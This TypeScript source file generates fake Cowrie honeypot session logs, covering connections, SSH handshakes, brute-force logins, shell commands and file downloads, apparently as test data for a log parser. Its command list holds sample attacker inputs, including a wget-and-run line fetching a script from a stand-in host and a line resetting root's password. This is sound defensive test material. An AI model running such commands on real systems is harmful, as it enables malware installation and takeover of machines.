import type { FakeRandom } from "./fake_random.ts";

/** One event of a session, before it is spelled. */
export interface CowrieEvent {
  readonly eventid: string;
  /** Milliseconds since 1970. */
  readonly at: number;
  readonly fields: Readonly<Record<string, unknown>>;
}

/** What a session is about. */
export interface CowrieSession {
  readonly session: string;
  readonly address: string;
  /** Milliseconds since 1970. */
  readonly startedAt: number;
  readonly protocol: "ssh" | "telnet";
  /** How versions before 2.0 spell things. */
  readonly isOld: boolean;
  /** False where the log ends before the session does. */
  readonly isClosed: boolean;
}

const CLIENTS = [
  "SSH-2.0-Go",
  "SSH-2.0-libssh2_1.4.3",
  "SSH-2.0-PUTTY",
  "SSH-2.0-OpenSSH_7.4",
  "SSH-2.0-JSCH-0.1.54",
];
const USERS = ["root", "admin", "ubuntu", "oracle", "pi", "test", "postgres", "müller", "user'; --"];
const PASSWORDS = [
  "123456",
  "admin",
  "password",
  "raspberry",
  "P@ssw0rd!",
  "пароль",
  "nul\u0000byte",
  '"quoted"',
  "",
];
const COMMANDS = [
  "uname -a",
  "cat /proc/cpuinfo | grep name | wc -l",
  "cd /tmp || cd /var/run || cd /mnt; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
  'echo -e "\\x6F\\x6B"',
  "/bin/busybox ECCHI",
  "free -m | grep Mem | awk '{print $2 ,$3}'",
  "crontab -l",
  "w",
  'echo "root:Xy12" | chpasswd | bash',
  "lscpu | grep Model",
];

/** Makes up a session's events in the order of their time. */
export function inventEvents(session: CowrieSession, random: FakeRandom): CowrieEvent[] {
  const kind = random.next();
  const events = new EventList(session, random);
  events.add("cowrie.session.connect", {
    src_port: 1024 + random.below(60_000),
    dst_ip: "10.20.0.5",
    dst_port: session.protocol === "ssh" ? 2222 : 2223,
    protocol: session.protocol,
    message: `New connection: ${session.address}`,
  });
  if (session.protocol === "ssh") addHandshake(events, random);
  if (kind >= 0.25) addLogins(events, { random, succeeds: kind >= 0.5 });
  if (kind >= 0.5) addShell(events, { random, isBusy: kind >= 0.94 });
  if (session.isClosed) addEnd(events, kind >= 0.5);
  return events.list;
}

class EventList {
  readonly list: CowrieEvent[] = [];
  #at: number;

  constructor(readonly session: CowrieSession, readonly random: FakeRandom) {
    this.#at = session.startedAt;
  }

  get elapsedMs(): number {
    return this.#at - this.session.startedAt;
  }

  add(eventid: string, fields: Readonly<Record<string, unknown>>, afterMs = 0): void {
    this.#at += afterMs;
    this.list.push({ eventid, at: this.#at, fields });
  }
}

function addHandshake(events: EventList, random: FakeRandom): void {
  const version = random.pick(CLIENTS);
  events.add(
    "cowrie.client.version",
    { version, message: `Remote SSH version: ${version}` },
    random.below(400),
  );
  if (random.next() < 0.3) {
    const hassh = random.uint32().toString(16).padStart(8, "0").repeat(4);
    events.add("cowrie.client.kex", {
      hassh,
      kexAlgs: ["curve25519-sha256"],
      message: `SSH client hassh: ${hassh}`,
    }, 90);
  }
}

function addLogins(
  events: EventList,
  { random, succeeds }: { readonly random: FakeRandom; readonly succeeds: boolean },
): void {
  const attempt = (outcome: "failed" | "succeeded") => {
    const [username, password] = [random.pick(USERS), random.pick(PASSWORDS)];
    const message = `login attempt [${username}/${password}] ${outcome}`;
    const eventid = outcome === "failed" ? "cowrie.login.failed" : "cowrie.login.success";
    events.add(eventid, { username, password, message }, 200 + random.below(2500));
  };
  for (let count = random.below(4) + (succeeds ? 0 : 1); count > 0; count--) attempt("failed");
  if (succeeds) attempt("succeeded");
}

function addShell(
  events: EventList,
  { random, isBusy }: { readonly random: FakeRandom; readonly isBusy: boolean },
): void {
  if (random.next() < 0.3) {
    events.add("cowrie.client.size", { width: 80, height: 24, message: "Terminal Size: 80 24" }, 100);
  }
  events.add("cowrie.session.params", { arch: "linux-x64-lsb", message: [] }, 50);
  for (let count = isBusy ? 10 + random.below(4) : random.below(4); count > 0; count--) {
    const input = random.pick(COMMANDS);
    events.add(
      "cowrie.command.input",
      { input, message: `CMD: ${input}` },
      300 + random.below(isBusy ? 60_000 : 5000),
    );
    if (random.next() < 0.1) {
      events.add("cowrie.command.failed", { input, message: `Command not found: ${input}` }, 1);
    }
  }
  for (let count = isBusy ? 3 + random.below(4) : random.below(2); count > 0; count--) {
    addTransfer(events, random);
  }
  if (random.next() < 0.1) {
    events.add(
      "cowrie.direct-tcpip.request",
      { dst_ip: "192.0.2.44", dst_port: 443, message: "direct-tcp" },
      500,
    );
  }
}

function addTransfer(events: EventList, random: FakeRandom): void {
  const shasum = Array.from({ length: 8 }, () => random.uint32().toString(16).padStart(8, "0")).join("");
  const url = `http://198.51.100.7/bins/${shasum.slice(0, 6)}.sh`;
  const outfile = `var/lib/cowrie/downloads/${shasum}`;
  const luck = random.next();
  if (luck < 0.7) {
    events.add(
      "cowrie.session.file_download",
      { url, outfile, shasum, message: `Downloaded URL (${url})` },
      900,
    );
  } else if (luck < 0.85) {
    events.add("cowrie.session.file_download.failed", { url, message: "Attempt to download failed" }, 900);
  } else {
    events.add(
      "cowrie.session.file_upload",
      { filename: "sshd", outfile, shasum, message: "SFTP Uploaded" },
      900,
    );
  }
}

function addEnd(events: EventList, hadShell: boolean): void {
  const { isOld } = events.session;
  if (hadShell) {
    const ttylog = `var/lib/cowrie/tty/${events.session.session}`;
    events.add("cowrie.log.closed", {
      ttylog,
      size: 2048,
      duration: spellDuration(events.elapsedMs, isOld),
      message: `Closing TTY Log: ${ttylog}`,
    }, 40);
  }
  events.add("cowrie.session.closed", {}, 20 + events.random.below(3000));
  const seconds = spellDuration(events.elapsedMs, isOld);
  const closed = events.list.pop()!;
  events.list.push({
    ...closed,
    fields: { duration: seconds, message: `Connection lost after ${seconds} seconds` },
  });
}

/** Seconds: a number in old versions, a text in new ones. */
function spellDuration(ms: number, isOld: boolean): number | string {
  return isOld ? ms / 1000 : (ms / 1000).toFixed(1);
}
